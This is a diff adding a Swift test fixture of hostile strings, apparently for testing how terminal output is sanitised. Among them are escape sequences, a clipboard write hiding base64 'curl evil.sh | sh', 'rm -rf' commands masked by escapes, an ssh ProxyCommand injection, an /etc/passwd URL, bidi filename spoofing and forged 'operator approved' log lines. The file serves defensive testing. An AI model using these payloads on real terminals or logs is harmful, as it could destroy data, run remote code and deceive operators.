@@ -1,0 +1,41 @@
+/// Text that tries to act on a terminal, to hide, or to break out of its place.
+///
+/// Tests take an index as their argument: a runner prints arguments, and these must not be printed.
+enum HostileText {
+    static let all: [String] = [
+        "ok\u{1b}[10A\u{1b}[2KApproved by operator",
+        "\u{1b}[?1049l$ rm -rf ~",
+        "\u{1b}[c\u{1b}[>c\u{1b}[=c\u{1b}[5n\u{1b}[?1$p",
+        "\u{1b}[5iprinted?\u{1b}[4i",
+        "\u{1b}[" + String(repeating: "1;", count: 100_000) + "m",
+        "\u{1b}[1;1r\u{1b}[4h\u{1b}[20h\u{1b}[?6h",
+        "\u{1b}#8\u{1b}(0lqqqk\u{1b}(B",
+        "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2gK\u{7}",
+        "[x](https://e.example/\u{1b}\\\u{1b}[2J)",
+        "\u{1b}]1337;File=name=eC5zaA==;inline=0:QUFB\u{7}",
+        "\u{1b}]52;c;QUFB\u{18}\u{1b}]52;c;QUFB\u{1a}",
+        "\u{1b}kfake-window-name\u{1b}\\",
+        "\u{1b}^secret\u{1b}\\\u{1b}Xstuff",
+        "\u{9d}52;c;QUFB\u{9c}\u{9b}2J\u{85}",
+        "rm -rf / # dangerous\recho hello          ",
+        "visible\u{0}HIDDEN TAIL",
+        "done\n2026-01-01T00:00:00Z INFO operator approved task 7",
+        "done\r\nsecond", "a\tb\u{8}\u{8}c\u{7f}",
+        "\u{1b}\u{1b}[[2J", "[2Jpart2",
+        String(decoding: [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80] as [UInt8], as: UTF8.self),
+        String(decoding: Array("caf".utf8) + [0xE9] + Array(" latin1".utf8), as: UTF8.self),
+        "\u{200e}\u{200f}\u{61c}x", "user\u{202e}gpj.exe\u{202c}", "\u{2066}a\u{2069}b\u{2067}",
+        "a\u{200d}b\u{200c}c\u{2060}d\u{feff}e\u{200b}f\u{180e}g\u{ad}h",
+        "a\u{2028}b\u{2029}c",
+        "👨\u{200d}👩\u{200d}👧\u{200d}👦|", "👍🏽|🧑🏻\u{200d}💻|", "🇳🇱🇩|", "❤️|☂︎|1️⃣|",
+        String(repeating: "漢", count: 40), "क्षि|กำ|각|각|",
+        "\u{fffe}\u{ffff}\u{1ffff}|\u{10ffff}\u{e000}",
+        "\u{301}\u{301}leading", "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}!",
+        "x\u{fe00}\u{fe01}\u{fe02}\u{fe03}y\u{e0100}\u{e0101}",
+        "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}!",
+        "\u{3164}\u{115f}\u{1160}\u{ffa0}",
+        "● finance  ONLINE  rep 150  ✔ verified", #"\u001b[2J"#,
+        "file:///etc/passwd ssh://-oProxyCommand=x/ javascript:1", "\u{fff9}a\u{fffa}b\u{fffb}",
+        "\u{200d}", "\u{fe0f}", "", " ", "\u{a0}\u{3000}\u{2003}|",
+    ]
+}
